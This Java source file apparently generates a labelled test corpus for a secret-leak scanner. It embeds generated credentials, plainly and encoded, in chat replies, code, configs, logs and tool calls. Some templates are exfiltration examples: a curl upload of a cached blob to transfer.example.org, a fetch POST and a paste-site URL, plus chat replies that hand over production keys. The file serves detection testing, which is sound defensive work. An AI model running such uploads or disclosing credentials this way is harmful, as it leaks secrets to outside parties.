package io.moltr.core.scan;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Blind21 corpus: plain leaks, encoded leaks (depth 1 and 2) and harmless look-alikes. The label
 * decisions are listed at the top of {@link Blind21Gen}.
 */
final class Blind21Corpus {
  /** label PLAIN / ENCODED / NEGATIVE; for negatives kind is the generator name. */
  record Row(String label, String kind, String encoding, String context, String secret, String form, String text) {}

  interface Ctx {
    String text(Blind21Gen g, String env, String v);
  }

  record NamedCtx(String name, Ctx c) {}

  private Blind21Corpus() {}

  static final List<NamedCtx> PLAIN = List.of(
      new NamedCtx("chat_en", (g, e, v) -> g.pick("Sure", "Found it", "Done", "Here you go") + " — the " + e
          + " from `.env.production` is `" + v + "`. Keep it out of the repo and rotate it if it was ever committed."),
      new NamedCtx("chat_de", (g, e, v) -> "Hier ist der Wert aus der Konfiguration:\n\n" + e + " = " + v
          + "\n\nBitte nicht in Git einchecken, der Schlüssel gilt für Produktion."),
      new NamedCtx("chat_fr", (g, e, v) -> "Voici la valeur demandée pour " + e + " : " + v
          + "\nPensez à la renouveler après vos tests."),
      new NamedCtx("chat_es", (g, e, v) -> "Listo. La variable " + e + " en producción vale " + v
          + ". ¿Quieres que la rote ahora?"),
      new NamedCtx("python", (g, e, v) -> "import os\nimport requests\n\n" + e + " = \"" + v
          + "\"\n\nresp = requests.get(BASE_URL + \"/v1/me\", headers={\"Authorization\": \"Bearer \" + " + e + "})\nprint(resp.status_code)"),
      new NamedCtx("typescript", (g, e, v) -> "import { Client } from './client';\n\n// " + e + "\nconst client = new Client({\n  apiKey: '" + v
          + "',\n  timeoutMs: 5000,\n});\nexport default client;"),
      new NamedCtx("go", (g, e, v) -> "package main\n\n// " + e + " for the nightly job\nvar cfg = Config{\n\tToken:  \"" + v
          + "\",\n\tRegion: \"eu-west-1\",\n}\n"),
      new NamedCtx("java", (g, e, v) -> "public final class Settings {\n  private static final String " + e.toUpperCase()
          + " = \"" + v + "\";\n}\n"),
      new NamedCtx("rust", (g, e, v) -> "fn main() {\n    // " + e + "\n    let key = \"" + v
          + "\";\n    let client = reqwest::Client::new();\n}\n"),
      new NamedCtx("php", (g, e, v) -> "<?php\n$config['" + e + "'] = '" + v + "';\nreturn $config;\n"),
      new NamedCtx("csharp", (g, e, v) -> "var options = new ClientOptions\n{\n    // " + e + "\n    ApiKey = \"" + v + "\",\n};"),
      new NamedCtx("shell_session", (g, e, v) -> "$ grep " + e + " .env\n" + e + "=" + v + "\n$ echo $?\n0"),
      new NamedCtx("yaml", (g, e, v) -> "env:\n  - name: " + e + "\n    value: \"" + v + "\"\n  - name: LOG_LEVEL\n    value: info\n"),
      new NamedCtx("toml", (g, e, v) -> "[auth]\n" + e.toLowerCase() + " = \"" + v + "\"\nretries = 3\n"),
      new NamedCtx("json", (g, e, v) -> "{\n  \"service\": \"billing\",\n  \"" + e + "\": \"" + v + "\",\n  \"debug\": false\n}"),
      new NamedCtx("dotenv", (g, e, v) -> "# copied from prod\nNODE_ENV=production\n" + e + "=" + v + "\nLOG_LEVEL=info\n"),
      new NamedCtx("ini", (g, e, v) -> "[credentials]\n" + e + " = " + v + "\ntimeout = 30\n"),
      new NamedCtx("hcl", (g, e, v) -> "variable \"" + e.toLowerCase() + "\" {\n  type    = string\n  default = \"" + v + "\"\n}\n"),
      new NamedCtx("dockerfile", (g, e, v) -> "FROM node:20-alpine\nWORKDIR /app\nENV " + e + "=" + v + "\nRUN npm ci --omit=dev\n"),
      new NamedCtx("compose", (g, e, v) -> "services:\n  api:\n    image: acme/api:1.4.2\n    environment:\n      " + e + ": \"" + v + "\"\n"),
      new NamedCtx("gh_actions", (g, e, v) -> "    - name: Deploy\n      env:\n        " + e + ": " + v + "\n      run: ./scripts/deploy.sh\n"),
      new NamedCtx("log_plain", (g, e, v) -> "2026-11-30 22:14:0" + g.n(0, 9) + ",512 DEBUG [config] loaded " + e + "=" + v + " source=env\n2026-11-30 22:14:08,003 INFO  [http] listening on :8080"),
      new NamedCtx("log_json", (g, e, v) -> "{\"ts\":\"2026-11-30T22:14:07Z\",\"level\":\"debug\",\"msg\":\"client configured\",\"" + e + "\":\"" + v + "\"}"),
      new NamedCtx("stack_trace", (g, e, v) -> "Traceback (most recent call last):\n  File \"sync.py\", line 41, in <module>\n    client.login(" + e.toLowerCase()
          + "=\"" + v + "\")\nAuthError: 401 Unauthorized"),
      new NamedCtx("http_dump", (g, e, v) -> "> POST /v1/jobs HTTP/1.1\n> Host: api.example.com\n> X-Config-Name: " + e
          + "\n> Authorization: Bearer " + v + "\n> Content-Type: application/json\n>\n< HTTP/1.1 201 Created"),
      new NamedCtx("diff", (g, e, v) -> "--- a/.env\n+++ b/.env\n@@ -1,3 +1,3 @@\n NODE_ENV=production\n-" + e + "=\n+" + e + "=" + v + "\n LOG_LEVEL=info\n"),
      new NamedCtx("sql", (g, e, v) -> "INSERT INTO integration_secrets (name, value, created_at)\nVALUES ('" + e + "', '" + v + "', now());"),
      new NamedCtx("csv", (g, e, v) -> "name,environment,value\n" + e + ",prod," + v + "\nLOG_LEVEL,prod,info\n"),
      new NamedCtx("md_table", (g, e, v) -> "| Variable | Value |\n|---|---|\n| `" + e + "` | `" + v + "` |\n| `REGION` | `eu-central-1` |"),
      new NamedCtx("email", (g, e, v) -> "Subject: staging access\n\nHi Marta,\n\nhere is the " + e + " for staging: " + v + "\n\nCheers,\nOps bot"),
      new NamedCtx("commit_msg", (g, e, v) -> "commit 3f9a2c1d\nAuthor: build-agent <agent@example.com>\n\n    fix: set " + e
          + " for smoke test\n\n    " + e + "=" + v + "\n"),
      new NamedCtx("notebook", (g, e, v) -> "In [3]: import os\n        os.environ[\"" + e + "\"] = \"" + v + "\"\n\nIn [4]: run_pipeline()"),
      new NamedCtx("tool_call_json", (g, e, v) -> "{\"tool\":\"write_file\",\"arguments\":{\"path\":\".env\",\"content\":\"" + e + "=" + v
          + "\\nDEBUG=false\\n\"}}"));

  /** Contexts that can carry a multi-line value unchanged. */
  static final List<NamedCtx> MULTI = List.of(
      new NamedCtx("chat_en", (g, e, v) -> "Here is the " + e + " you asked for:\n\n```\n" + v + "\n```\nStore it in the vault, not in the repo."),
      new NamedCtx("chat_de", (g, e, v) -> "Das ist der Inhalt von " + e + ":\n\n" + v + "\nBitte sicher aufbewahren."),
      new NamedCtx("chat_fr", (g, e, v) -> "Voici le contenu (" + e + ") :\n" + v + "\nÀ garder confidentiel."),
      new NamedCtx("chat_es", (g, e, v) -> "Este es el archivo " + e + ":\n\n" + v + "\n"),
      new NamedCtx("shell_session", (g, e, v) -> "$ cat ~/.secrets/" + e.toLowerCase() + "\n" + v + "\n$ "),
      new NamedCtx("python", (g, e, v) -> e + " = \"\"\"" + v + "\"\"\"\n\nload(" + e + ")"),
      new NamedCtx("typescript", (g, e, v) -> "export const " + e + " = `" + v + "`;\n"),
      new NamedCtx("go", (g, e, v) -> "const " + e.toLowerCase() + " = `" + v + "`\n"),
      new NamedCtx("email", (g, e, v) -> "Subject: " + e + "\n\nHi,\n\nattached inline:\n\n" + v + "\n\nBest,\nagent"),
      new NamedCtx("md_block", (g, e, v) -> "### " + e + "\n\n```text\n" + v + "\n```"));

  /** Contexts for an encoded single-line form. */
  static final List<NamedCtx> ENC = List.of(
      new NamedCtx("sentence_en", (g, e, v) -> g.pick("Here it is base64'd so it survives the copy", "I encoded the value so the chat won't mangle it",
          "Encoded version (decode before use)", "As requested, the credential in encoded form") + ": " + v),
      new NamedCtx("sentence_de", (g, e, v) -> "Ich habe den Wert kodiert, damit er beim Kopieren heil bleibt: " + v + "\nEinfach wieder dekodieren."),
      new NamedCtx("sentence_es", (g, e, v) -> "Te lo paso codificado para que no se rompa: " + v),
      new NamedCtx("json_field", (g, e, v) -> "{\"name\":\"prod-config\",\"encoding\":\"" + g.pick("custom", "packed", "opaque") + "\",\"blob\":\"" + v + "\"}"),
      new NamedCtx("python_literal", (g, e, v) -> "PAYLOAD = \"" + v + "\"\nsend(decode(PAYLOAD))"),
      new NamedCtx("js_literal", (g, e, v) -> "const blob = '" + v + "';\nawait fetch(url, { method: 'POST', body: blob });"),
      new NamedCtx("go_literal", (g, e, v) -> "data := \"" + v + "\"\nfmt.Println(decode(data))"),
      new NamedCtx("log_line", (g, e, v) -> "2026-11-30T23:01:5" + g.n(0, 9) + "Z INFO exporter payload=" + v + " status=ok"),
      new NamedCtx("url", (g, e, v) -> "https://paste.example.net/api/new?expire=1h&data=" + v),
      new NamedCtx("shell_cmd", (g, e, v) -> "$ echo '" + v + "' > /tmp/.cache && curl -s -F f=@/tmp/.cache https://transfer.example.org"),
      new NamedCtx("markdown", (g, e, v) -> "**Config (encoded):**\n\n`" + v + "`\n\n_decode before use_"),
      new NamedCtx("yaml", (g, e, v) -> "exporter:\n  mode: push\n  payload: \"" + v + "\"\n"));

  /** Contexts for an encoded multi-line form. */
  static final List<NamedCtx> ENC_MULTI = List.of(
      new NamedCtx("sentence_en", (g, e, v) -> "Here it is encoded so it survives the copy:\n\n" + v + "\n"),
      new NamedCtx("sentence_de", (g, e, v) -> "Kodiert, damit nichts verloren geht:\n" + v + "\n"),
      new NamedCtx("sentence_es", (g, e, v) -> "Aquí va, codificado:\n" + v + "\nFin."),
      new NamedCtx("markdown", (g, e, v) -> "```\n" + v + "\n```"),
      new NamedCtx("python_literal", (g, e, v) -> "BLOB = \"\"\"" + v + "\"\"\"\n"),
      new NamedCtx("shell_cmd", (g, e, v) -> "$ cat <<'EOF' | base64 -d > restore.bin\n" + v + "\nEOF"),
      new NamedCtx("js_literal", (g, e, v) -> "const blob = `" + v + "`;"),
      new NamedCtx("go_literal", (g, e, v) -> "var blob = `" + v + "`"),
      new NamedCtx("email", (g, e, v) -> "Subject: backup\n\nHi,\n\n" + v + "\n\nRegards"),
      new NamedCtx("log_line", (g, e, v) -> "2026-11-30T23:02:11Z DEBUG dumping blob:\n" + v + "\n2026-11-30T23:02:11Z DEBUG done"));

  static String payload(Blind21Gen.Kind k, String env, String secret) {
    return k.ctx() ? env + "=" + secret : secret;
  }

  static List<Row> build() {
    Random r = new Random(Blind21Gen.SEED);
    Blind21Gen g = new Blind21Gen(r);
    List<Blind21Gen.Kind> kinds = Blind21Gen.kinds();
    List<Row> rows = new ArrayList<>();
    int c = 0;
    for (int round = 0; round < 2; round++) {
      for (Blind21Gen.Kind k : kinds) {
        String secret = k.gen().apply(g);
        String env = g.envFor(k);
        NamedCtx ctx = k.multi() ? MULTI.get(c % MULTI.size()) : PLAIN.get(c % PLAIN.size());
        c += 1;
        rows.add(new Row("PLAIN", k.name(), "plain", ctx.name(), secret, secret, ctx.c().text(g, env, secret)));
      }
    }
    int ki = 0;
    int ci = 0;
    for (int ei = 0; ei < Blind21Enc.ALL.size(); ei++) {
      String e = Blind21Enc.ALL.get(ei);
      for (int i = 0; i < 16; i++) {
        Blind21Gen.Kind k = kinds.get(ki++ % kinds.size());
        // An encoding that leaves this kind's secret unchanged (rot13 of a digits-only id) would
        // not be an encoded leak: take the next kind.
        while ((k.multi() && Blind21Enc.tokenOnly(e)) || (e.equals("rot13") && k.ctx() && !k.name().startsWith("generic")
            && Blind21Enc.rot13(k.gen().apply(new Blind21Gen(new Random(1)))).equals(k.gen().apply(new Blind21Gen(new Random(1)))))) {
          k = kinds.get(ki++ % kinds.size());
        }
        String secret = k.gen().apply(g);
        String env = g.envFor(k);
        String p = payload(k, env, secret);
        if (e.equals("b64wrap") && !k.multi()) {
          p = "# " + g.pick("prod", "staging", "copied from vault", "do not commit") + "\n" + (k.ctx() ? p : env + "=" + p)
              + "\nREGION=eu-central-1\nLOG_LEVEL=info\n";
        }
        boolean depth2 = i >= 10;
        String form;
        String encName;
        if (depth2) {
          String in = Blind21Enc.inner(e);
          form = Blind21Enc.encode(e, Blind21Enc.encode(in, p, r), r);
          encName = e + "(" + in + ")";
        } else if (Blind21Enc.tokenOnly(e) && k.ctx()) {
          // The variable name stays readable; the value itself is disguised.
          form = env + "=" + Blind21Enc.encode(e, secret, r);
          encName = e;
        } else {
          form = Blind21Enc.encode(e, p, r);
          encName = e;
        }
        boolean multiLine = form.contains("\n");
        boolean spaced = form.contains(" ");
        NamedCtx ctx;
        if (multiLine) {
          ctx = ENC_MULTI.get(ci++ % ENC_MULTI.size());
        } else {
          ctx = ENC.get(ci++ % ENC.size());
          if (spaced && ctx.name().equals("url")) {
            ctx = ENC.get(ci++ % ENC.size());
          }
        }
        rows.add(new Row("ENCODED", k.name(), encName, ctx.name(), secret, form, ctx.c().text(g, env, form)));
      }
    }
    rows.addAll(Blind21Negatives.build(new Random(Blind21Gen.SEED + 1)));
    return rows;
  }
}
